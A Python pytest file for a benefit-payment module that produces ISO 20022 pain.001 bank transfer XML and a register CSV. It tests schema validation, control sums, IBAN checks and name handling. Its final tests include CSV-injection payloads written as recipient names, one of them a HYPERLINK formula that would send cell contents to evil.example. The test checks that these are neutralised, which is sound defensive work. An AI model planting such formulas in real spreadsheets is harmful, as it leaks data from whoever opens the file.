"""Payment files: the register CSV and the ISO 20022 pain.001.001.09 a bank receives."""
from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from lxml import etree
from stdnum import iban as stdnum_iban

from familycard.graph.bank.payment_files import (
    PAIN001_NS,
    Payer,
    PaymentOrder,
    pain001_xml,
    register_csv,
    validate_pain001,
)
from feedmaker import iin

NS = {"p": PAIN001_NS}
MONTH = "2026-11"
CREATED = dt.datetime(2026, 11, 25, 9, 30, 0, tzinfo=dt.timezone(dt.timedelta(hours=5)))
EXECUTION = dt.date(2026, 11, 30)

MOTHER, FATHER, CARER, CHILD = iin("1990-04-12", "F"), iin("1985-07-01", "M"), iin("1970-01-20", "F"), \
    iin("2026-10-03", "M")
LONG_NAME = "Абдрахманова-Жұмабаева " * 10  # 230 characters, over Max140Text


def kz_iban(bban: str) -> str:
    return f"KZ{98 - int(bban + '203500') % 97:02d}{bban}"  # ISO 13616 check digits, K=20 Z=35


def orders() -> list[PaymentOrder]:
    # Deliberately not in order_id order: the files sort them.
    return [
        PaymentOrder("PAY202611B", FATHER, "Серіков, Нұрлан \"Ақан\"", kz_iban("7220000000000002"),
                     Decimal(1234567), "childcare", MONTH, CHILD),
        PaymentOrder("PAY202611A", MOTHER, "Серікова Айгүл Нұрланқызы", "KZ86125KZT5004100100",
                     85000, "birth", MONTH, CHILD),
        PaymentOrder("PAY202611C", CARER, LONG_NAME, kz_iban("9650000000000003"),
                     42000, "carer", MONTH, None),
    ]


def xml_of(batch=None, **kw) -> bytes:
    args = dict(payer=Payer(), message_id="FC-2026-11-0001", created_at=CREATED, execution_date=EXECUTION)
    args.update(kw)
    return pain001_xml(orders() if batch is None else batch, **args)


def txs(doc) -> list:
    return doc.findall(".//p:CdtTrfTxInf", NS)


# --- pain.001 -----------------------------------------------------------------------------

def test_the_pain001_of_a_batch_is_valid_against_the_official_xsd():
    validate_pain001(xml_of())  # raises on any schema error


def test_counts_and_control_sums_add_up_in_header_and_instruction():
    doc = etree.fromstring(xml_of())
    for where in ("p:CstmrCdtTrfInitn/p:GrpHdr", "p:CstmrCdtTrfInitn/p:PmtInf"):
        assert doc.findtext(f"{where}/p:NbOfTxs", namespaces=NS) == "3"
        assert doc.findtext(f"{where}/p:CtrlSum", namespaces=NS) == "1361567.00"  # 85000 + 1234567 + 42000


def test_each_order_is_one_transfer_in_tenge_with_two_decimals_sorted_by_order_id():
    doc = etree.fromstring(xml_of())
    got = [(t.findtext("p:PmtId/p:InstrId", namespaces=NS), t.findtext("p:PmtId/p:EndToEndId", namespaces=NS),
            t.find("p:Amt/p:InstdAmt", NS).text, t.find("p:Amt/p:InstdAmt", NS).get("Ccy"),
            t.findtext("p:CdtrAcct/p:Id/p:IBAN", namespaces=NS)) for t in txs(doc)]
    assert got == [
        ("PAY202611A", "PAY202611A", "85000.00", "KZT", "KZ86125KZT5004100100"),
        ("PAY202611B", "PAY202611B", "1234567.00", "KZT", kz_iban("7220000000000002")),
        ("PAY202611C", "PAY202611C", "42000.00", "KZT", kz_iban("9650000000000003")),
    ]


def test_payer_header_and_instruction_fields():
    payer = Payer()
    doc = etree.fromstring(xml_of())
    pmt = doc.find("p:CstmrCdtTrfInitn/p:PmtInf", NS)
    assert doc.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:MsgId", namespaces=NS) == "FC-2026-11-0001"
    assert doc.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:CreDtTm", namespaces=NS) == "2026-11-25T09:30:00+05:00"
    assert doc.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:InitgPty/p:Nm", namespaces=NS) == payer.name
    assert pmt.findtext("p:PmtMtd", namespaces=NS) == "TRF"
    assert pmt.findtext("p:BtchBookg", namespaces=NS) == "true"
    assert pmt.findtext("p:ReqdExctnDt/p:Dt", namespaces=NS) == "2026-11-30"
    assert pmt.findtext("p:Dbtr/p:Nm", namespaces=NS) == payer.name
    assert pmt.findtext("p:DbtrAcct/p:Id/p:IBAN", namespaces=NS) == payer.iban
    assert pmt.findtext("p:DbtrAgt/p:FinInstnId/p:BICFI", namespaces=NS) == payer.bic
    assert pmt.findtext("p:ChrgBr", namespaces=NS) == "SLEV"


def test_the_placeholder_payer_is_a_well_formed_iban_and_bic():
    payer = Payer()
    assert stdnum_iban.is_valid(payer.iban) and payer.iban.startswith("KZ") and len(payer.iban) == 20
    assert len(payer.bic) in (8, 11) and payer.bic[4:6] == "KZ"


def test_cyrillic_names_are_kept_and_long_names_cut_at_the_schema_limit():
    doc = etree.fromstring(xml_of())
    names = [t.findtext("p:Cdtr/p:Nm", namespaces=NS) for t in txs(doc)]
    assert names[0] == "Серікова Айгүл Нұрланқызы"
    assert names[1] == "Серіков, Нұрлан \"Ақан\""
    assert len(names[2]) <= 140 and LONG_NAME.startswith(names[2]) and len(names[2]) > 130
    assert "Серікова".encode() in xml_of()  # UTF-8 characters, not character references


def test_remittance_names_benefit_month_and_whom_the_right_is_about():
    doc = etree.fromstring(xml_of())
    ustrd = [t.findtext("p:RmtInf/p:Ustrd", namespaces=NS) for t in txs(doc)]
    assert ustrd == [f"birth {MONTH} IIN {CHILD}", f"childcare {MONTH} IIN {CHILD}", f"carer {MONTH} IIN {CARER}"]


def test_a_long_payer_name_and_benefit_code_still_give_a_valid_file():
    batch = [PaymentOrder("X1", MOTHER, "A", "KZ86125KZT5004100100", 1, "b" * 200, MONTH, None)]
    xml = xml_of(batch, payer=Payer(name="Ұ" * 300))
    validate_pain001(xml)
    doc = etree.fromstring(xml)
    assert len(doc.findtext(".//p:RmtInf/p:Ustrd", namespaces=NS)) == 140
    assert doc.findtext(".//p:Dbtr/p:Nm", namespaces=NS) == "Ұ" * 140


def test_same_inputs_give_the_same_bytes_whatever_the_order_they_come_in():
    assert xml_of() == xml_of()
    assert xml_of(list(reversed(orders()))) == xml_of()
    assert register_csv(orders(), month=MONTH) == register_csv(list(reversed(orders())), month=MONTH)


def test_an_empty_batch_has_no_pain001():
    with pytest.raises(ValueError, match="^no payment orders for 2026-11$"):
        xml_of([])


def test_duplicate_order_ids_are_refused():
    batch = orders() + [orders()[0]]
    with pytest.raises(ValueError, match="duplicate order_id 'PAY202611B'"):
        xml_of(batch)
    with pytest.raises(ValueError, match="duplicate order_id"):
        register_csv(batch, month=MONTH)


def test_an_overlong_message_id_is_refused():
    with pytest.raises(ValueError, match="message_id"):
        xml_of(message_id="M" * 36)


# --- the validator --------------------------------------------------------------------------

def test_a_transfer_without_the_creditor_iban_fails_naming_the_element():
    broken = xml_of().replace(b"<IBAN>KZ86125KZT5004100100</IBAN>", b"", 1)
    with pytest.raises(ValueError) as e:
        validate_pain001(broken)
    msg = str(e.value)
    assert "CdtTrfTxInf[1]/CdtrAcct/Id" in msg and "IBAN" in msg and "Missing child element" in msg
    assert "line " in msg


def test_a_bad_value_fails_with_the_facet_broken():
    broken = xml_of().replace(b"<PmtMtd>TRF</PmtMtd>", b"<PmtMtd>CASH</PmtMtd>")
    with pytest.raises(ValueError, match=r"PmtMtd.*'CASH' is not an element of the set"):
        validate_pain001(broken)


def test_control_sums_that_do_not_match_the_transfers_fail():
    broken = xml_of().replace(b"<CtrlSum>1361567.00</CtrlSum>", b"<CtrlSum>1361568.00</CtrlSum>", 1)
    with pytest.raises(ValueError, match="GrpHdr CtrlSum is 1361568.00, but the amounts add up to 1361567.00"):
        validate_pain001(broken)
    broken = xml_of().replace(b"<NbOfTxs>3</NbOfTxs>", b"<NbOfTxs>2</NbOfTxs>")
    with pytest.raises(ValueError, match="NbOfTxs is 2, but there are 3 transactions"):
        validate_pain001(broken)


def test_not_xml_at_all_fails_as_a_value_error():
    with pytest.raises(ValueError, match="not well-formed XML"):
        validate_pain001(b"<Document><unclosed>")
    with pytest.raises(ValueError, match="not valid against"):
        validate_pain001(b"<Document/>")


# --- payment orders -------------------------------------------------------------------------

def order(**kw) -> PaymentOrder:
    args = dict(order_id="P1", iin=MOTHER, name="Серікова Айгүл", bank_account="KZ86125KZT5004100100",
                amount_kzt=85000, benefit="birth", month=MONTH, subject=CHILD)
    args.update(kw)
    return PaymentOrder(**args)


@pytest.mark.parametrize("amount", [85000.0, 85000.5, True])
def test_float_and_bool_amounts_are_refused(amount):
    with pytest.raises(TypeError, match="amount_kzt must be int or Decimal"):
        order(amount_kzt=amount)


@pytest.mark.parametrize("amount, message", [
    (Decimal("85000.50"), "not a whole number of tenge"),
    (Decimal("NaN"), "not a whole number of tenge"),
    (0, "must be positive"),
    (-5, "must be positive"),
])
def test_fractional_and_non_positive_amounts_are_refused(amount, message):
    with pytest.raises(ValueError, match=message):
        order(amount_kzt=amount)


def test_a_whole_decimal_amount_is_accepted_and_written_as_the_integer():
    o = order(amount_kzt=Decimal("85000.00"))
    assert "85000.00" in xml_of([o]).decode()
    assert list(csv.DictReader(io.StringIO(register_csv([o], month=MONTH).decode())))[0]["amount_kzt"] == "85000"


@pytest.mark.parametrize("field, value, message", [
    ("order_id", "PAY-1", "order_id must be 1-35 letters or digits"),
    ("order_id", "P" * 36, "order_id must be 1-35 letters or digits"),
    ("iin", "12345", "iin '12345' is not 12 digits"),
    ("subject", "", "subject '' is not 12 digits"),
    ("bank_account", "KZ87125KZT5004100100", "check digits 87 fail ISO 13616 mod-97"),
    ("bank_account", "kz86125KZT5004100100", "is not an IBAN"),
    ("month", "2026-13", "month '2026-13' is not YYYY-MM"),
    ("name", "  ", "name is empty"),
])
def test_malformed_orders_are_refused_when_made(field, value, message):
    with pytest.raises(ValueError, match=message):
        order(**{field: value})


# --- register CSV ---------------------------------------------------------------------------

def test_the_register_round_trips_through_dictreader_with_exact_values():
    rows = list(csv.DictReader(io.StringIO(register_csv(orders(), month=MONTH).decode("utf-8"), newline="")))
    assert rows == [
        {"order_id": "PAY202611A", "month": MONTH, "benefit": "birth", "iin": MOTHER, "subject": CHILD,
         "name": "Серікова Айгүл Нұрланқызы", "bank_account": "KZ86125KZT5004100100", "amount_kzt": "85000",
         "currency": "KZT"},
        {"order_id": "PAY202611B", "month": MONTH, "benefit": "childcare", "iin": FATHER, "subject": CHILD,
         "name": "Серіков, Нұрлан \"Ақан\"", "bank_account": kz_iban("7220000000000002"),
         "amount_kzt": "1234567", "currency": "KZT"},
        {"order_id": "PAY202611C", "month": MONTH, "benefit": "carer", "iin": CARER, "subject": "",
         "name": LONG_NAME, "bank_account": kz_iban("9650000000000003"), "amount_kzt": "42000",
         "currency": "KZT"},
    ]


def test_the_register_quotes_a_name_with_a_comma():
    assert '"Серіков, Нұрлан ""Ақан"""' in register_csv(orders(), month=MONTH).decode()


def test_an_empty_register_is_just_the_header():
    assert register_csv([], month=MONTH) == (
        b"order_id,month,benefit,iin,subject,name,bank_account,amount_kzt,currency\r\n")


def test_a_register_refuses_orders_of_another_month():
    with pytest.raises(ValueError, match="is for 2026-10, not 2026-11"):
        register_csv([order(month="2026-10")], month=MONTH)


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"Серікова")', "+7 701", "-2+3", "@SUM(A1:A2)",
             "\tTab", "\r=1+1"]
    batch = [order(order_id=f"P{i}", name=n) for i, n in enumerate(names)]
    text = register_csv(batch, month=MONTH).decode()
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Серікова"")"' in text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["name"] for r in rows] == ["'" + n for n in names]


def test_the_register_is_byte_for_byte_what_it_was_for_ordinary_names():
    batch = [order(order_id="P2", iin="870101300019", subject=None, name="Серіков, Нұрлан \"Ақан\"", amount_kzt=42000),
             order(order_id="P1", iin="951231400012", subject="870101300019", name="O'Neil-Ахметова Анна")]
    assert register_csv(batch, month=MONTH) == (
        "order_id,month,benefit,iin,subject,name,bank_account,amount_kzt,currency\r\n"
        "P1,2026-11,birth,951231400012,870101300019,O'Neil-Ахметова Анна,KZ86125KZT5004100100,85000,KZT\r\n"
        'P2,2026-11,birth,870101300019,,"Серіков, Нұрлан ""Ақан""",KZ86125KZT5004100100,42000,KZT\r\n'
    ).encode()
